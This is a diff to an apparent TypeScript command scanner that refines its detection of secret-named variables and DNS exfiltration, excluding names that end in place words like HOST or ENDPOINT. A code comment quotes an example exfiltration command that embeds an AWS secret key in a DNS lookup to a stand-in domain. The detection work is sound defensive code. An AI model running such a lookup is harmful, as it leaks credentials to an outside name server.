@@ -313,6 +313,10 @@ function hostOf(v: View): string | null {
 // A variable whose name says it holds a secret (`$AWS_SECRET_ACCESS_KEY`, `${OPENAI_API_KEY}`, `$env:GH_TOKEN`, `%NPM_TOKEN%`).
 const SECRET_VARIABLE_REF =
   /\$\{?(?:env:)?([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Za-z0-9_]*)\}?|%([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|API_?KEY|ACCESS_KEY)[A-Za-z0-9_]*)%/gi;
+// The last word of a variable's name saying it holds a place, not a secret (`$TOKEN_SERVER`, `$SECRET_HOST`,
+// `$VAULT_TOKEN_ENDPOINT`): a host name in a name looked up is no DNS exfiltration (session 18).
+const PLACE_WORD = /(?:^|_)(?:SERVER|SERVERS|HOST|HOSTNAME|HOSTS|DOMAIN|ZONE|URL|URI|ENDPOINT|ADDR|ADDRESS|SUFFIX|PREFIX|REGION)$/i;
+const namesAPlace = (name: string) => PLACE_WORD.test(name);
 /** Words of a variable name that say what it is, not whose it is. */
 const GENERIC_NAME_WORD =
   /^(api|key|keys|token|tokens|secret|secrets|access|private|auth|client|app|password|passwd|pass|pat|bot|personal|the|env|user|service|account|session|credential|credentials|bearer|refresh|write|read|prod|dev|test|job|build|deploy|registry|webhook|url)$/;
@@ -670,12 +674,11 @@ export function sentSecrets(v: View, laterSink: boolean, vars: ReadonlyMap<strin
   // … or in a name looked up (`dig $AWS_SECRET_ACCESS_KEY.x.example`): the name server of that domain receives it
   if (RESOLVERS.has(n) && !hits.length)
     for (const x of v.a) {
+      if (x.startsWith("-") || !x.includes(".")) continue;
       SECRET_VARIABLE_REF.lastIndex = 0;
-      const m = !x.startsWith("-") && /\./.test(x) ? SECRET_VARIABLE_REF.exec(x) : null;
-      if (m) {
-        high(
-          `${n} looks up a name holding $${m[1] ?? m[2]} (${shortPath(x)}): the name server of that domain receives it (DNS exfiltration)`,
-        );
+      const name = [...x.matchAll(SECRET_VARIABLE_REF)].map((m) => m[1] ?? m[2]!).find((name) => !namesAPlace(name));
+      if (name) {
+        high(`${n} looks up a name holding $${name} (${shortPath(x)}): the name server of that domain receives it (DNS exfiltration)`);
         break;
       }
     }
